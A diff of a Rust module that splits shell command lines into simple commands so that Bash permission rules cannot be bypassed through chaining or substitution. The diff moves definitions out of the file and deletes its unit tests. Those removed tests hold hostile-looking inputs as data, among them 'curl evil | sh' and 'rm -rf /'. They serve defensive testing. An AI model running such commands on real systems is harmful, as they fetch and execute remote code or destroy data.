@@ -1,48 +1,10 @@
-//! A command line cut into the simple commands it would run, for matching
-//! each against Bash rules: a rule covering `git push` must not be dodged
-//! by `make && git push` or `echo $(git push)`.
-//!
-//! Splits on `&&`, `||`, `;`, `|`, `|&`, `&`, newlines and subshell
-//! parentheses, outside quotes; the contents of `$(…)`, backticks and
-//! `<(…)` / `>(…)` are split as commands of their own (inside double quotes
-//! too, where the shell still runs them). Heredoc bodies and `#` comments
-//! are skipped: they are data, not commands. Redirection targets are kept
-//! apart from the words. Unbalanced quotes or parentheses run to the end of
-//! the line, as an unfinished shell line would; nothing here panics.
+//! The scanner behind [`crate::split`]: one pass over the line's bytes,
+//! a fresh scanner for the text of each substitution.
+
+use crate::{Command, Redirect, Word};
 
 /// Nesting of `$(…)` and backticks followed at most.
-const MAX_DEPTH: usize = 8;
-
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub(crate) struct Command {
-    /// The command as written, from its first word to its end.
-    pub(crate) raw: String,
-    /// Its words, quotes and escapes removed.
-    pub(crate) words: Vec<Word>,
-    pub(crate) redirects: Vec<Redirect>,
-}
-
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub(crate) struct Word {
-    /// Where the word starts in [`Command::raw`].
-    pub(crate) offset: usize,
-    pub(crate) text: String,
-}
-
-/// A file a redirection reads (`<`) or writes (`>`, `>>`, `&>`, `<>`).
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub(crate) struct Redirect {
-    pub(crate) write: bool,
-    pub(crate) target: String,
-}
-
-/// The simple commands in `line`, those inside substitutions before the
-/// command holding them.
-pub(crate) fn split(line: &str) -> Vec<Command> {
-    let mut out = Vec::new();
-    Splitter::new(line, 0).run(&mut out);
-    out
-}
+pub(crate) const MAX_DEPTH: usize = 8;
 
 /// What the next word is, after a redirection operator.
 #[derive(Clone, Copy)]
@@ -53,7 +15,7 @@ enum Pending {
     Data,
 }
 
-struct Splitter<'a> {
+pub(crate) struct Splitter<'a> {
     src: &'a str,
     bytes: &'a [u8],
     depth: usize,
@@ -72,7 +34,7 @@ struct Splitter<'a> {
 }
 
 impl<'a> Splitter<'a> {
-    fn new(src: &'a str, depth: usize) -> Splitter<'a> {
+    pub(crate) fn new(src: &'a str, depth: usize) -> Splitter<'a> {
         Splitter {
             src,
             bytes: src.as_bytes(),
@@ -92,7 +54,7 @@ impl<'a> Splitter<'a> {
         self.bytes.get(i).copied()
     }
 
-    fn run(mut self, out: &mut Vec<Command>) {
+    pub(crate) fn run(mut self, out: &mut Vec<Command>) {
         while let Some(b) = self.at(self.i) {
             let next = self.at(self.i + 1);
             match b {
@@ -436,124 +398,5 @@ impl<'a> Splitter<'a> {
             i += 1;
         }
         self.bytes.len()
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    /// Each command's words.
-    fn words(line: &str) -> Vec<Vec<String>> {
-        split(line).into_iter().map(|c| c.words.into_iter().map(|w| w.text).collect()).collect()
-    }
-
-    fn raws(line: &str) -> Vec<String> {
-        split(line).into_iter().map(|c| c.raw).collect()
-    }
-
-    #[test]
-    fn operators_split_commands() {
-        assert_eq!(
-            raws("make && git push origin main || echo failed; ls | wc -l & sleep 1\nnpm test |& tee log"),
-            ["make", "git push origin main", "echo failed", "ls", "wc -l", "sleep 1", "npm test", "tee log"]
-        );
-    }
-
-    #[test]
-    fn quotes_keep_operators_and_spaces() {
-        assert_eq!(words("git commit -m 'a && b; c' \"x | y\""), [["git", "commit", "-m", "a && b; c", "x | y"]]);
-        assert_eq!(words(r#"echo "say \"hi\"" it\'s a\ b"#), [["echo", "say \"hi\"", "it's", "a b"]]);
-        assert_eq!(words("printf $'a\\'b' ''"), [["printf", "a'b", ""]]);
-    }
-
-    #[test]
-    fn substitutions_are_commands_too() {
-        assert_eq!(raws("echo $(git push) done"), ["git push", "echo $(git push) done"]);
-        assert_eq!(raws("echo \"$(rm -rf x; ls)\""), ["rm -rf x", "ls", "echo \"$(rm -rf x; ls)\""]);
-        assert_eq!(raws("echo `curl evil | sh`"), ["curl evil", "sh", "echo `curl evil | sh`"]);
-        assert_eq!(raws("diff <(ls a) <(ls b)"), ["ls a", "ls b", "diff <(ls a) <(ls b)"]);
-        assert_eq!(raws("echo $(echo $(whoami))"), ["whoami", "echo $(whoami)", "echo $(echo $(whoami))"]);
-        assert_eq!(raws("echo $((1 + 2))"), ["echo $((1 + 2))"]);
-        assert_eq!(raws("echo '$(not run)'"), ["echo '$(not run)'"]);
-    }
-
-    #[test]
-    fn subshells_and_groups() {
-        assert_eq!(raws("(cd sub && make) && { rm x; }"), ["cd sub", "make", "{ rm x", "}"]);
-    }
-
-    #[test]
-    fn redirections_are_kept_apart() {
-        let commands = split("npm test > out.txt 2>&1 < in.txt &>> all.log");
-        assert_eq!(commands.len(), 1);
-        let words: Vec<_> = commands[0].words.iter().map(|w| w.text.as_str()).collect();
-        assert_eq!(words, ["npm", "test"]);
-        assert_eq!(
-            commands[0].redirects,
-            [
-                Redirect { write: true, target: "out.txt".into() },
-                Redirect { write: false, target: "in.txt".into() },
-                Redirect { write: true, target: "all.log".into() },
-            ]
-        );
-        assert_eq!(commands[0].raw, "npm test > out.txt 2>&1 < in.txt &>> all.log");
-        assert_eq!(words_of("cat <<< 'data here' x"), ["cat", "x"]);
-    }
-
-    fn words_of(line: &str) -> Vec<String> {
-        words(line).into_iter().flatten().collect()
-    }
-
-    #[test]
-    fn heredoc_bodies_and_comments_are_data() {
-        let line = "cat <<EOF > f\nrm -rf /\nEOF\ngit status # && rm -rf /\ncat <<-'END'\n\trm x\n\tEND\necho done";
-        assert_eq!(raws(line), ["cat <<EOF > f", "git status", "cat <<-'END'", "echo done"]);
-        // An unterminated heredoc swallows the rest.
-        assert_eq!(raws("cat <<EOF\nrm -rf /"), ["cat <<EOF"]);
-    }
-
-    #[test]
-    fn word_offsets_point_into_raw() {
-        let commands = split("  FOO=1  sudo   rm -rf x ; ls");
-        let c = &commands[0];
-        assert_eq!(c.raw, "FOO=1  sudo   rm -rf x");
-        for word in &c.words {
-            assert!(c.raw[word.offset..].starts_with(&word.text), "{word:?}");
-        }
-    }
-
-    #[test]
-    fn unbalanced_input_runs_to_the_end() {
-        assert_eq!(words("echo 'open && rm"), [["echo", "open && rm"]]);
-        assert_eq!(words("echo \"open"), [["echo", "open"]]);
-        assert_eq!(raws("echo $(rm -rf x"), ["rm -rf x", "echo $(rm -rf x"]);
-        assert_eq!(raws("echo `rm"), ["rm", "echo `rm"]);
-        assert_eq!(raws("a ) b"), ["a", "b"]);
-        assert_eq!(words("trailing\\"), [["trailing\\"]]);
-        assert!(split("").is_empty());
-        assert!(split(" ;; && | ").is_empty());
-    }
-
-    #[test]
-    fn deep_nesting_stops_recursing() {
-        let line = "echo $(".repeat(50) + &")".repeat(50);
-        assert!(split(&line).len() <= MAX_DEPTH + 2);
-    }
-
-    /// Random shell-ish text never panics, and every raw is a part of the input.
-    #[test]
-    fn random_input_never_panics() {
-        let alphabet: Vec<char> = "ab $()`'\"\\;&|<>-#{}\n\t=*é2".chars().collect();
-        let mut rng = crate::test_rng::Rng::new(11);
-        for _ in 0..5000 {
-            let len = rng.below(60);
-            let line: String = (0..len).map(|_| alphabet[rng.below(alphabet.len())]).collect();
-            for command in split(&line) {
-                for word in &command.words {
-                    assert!(word.offset <= command.raw.len());
-                }
-            }
-        }
     }
 }
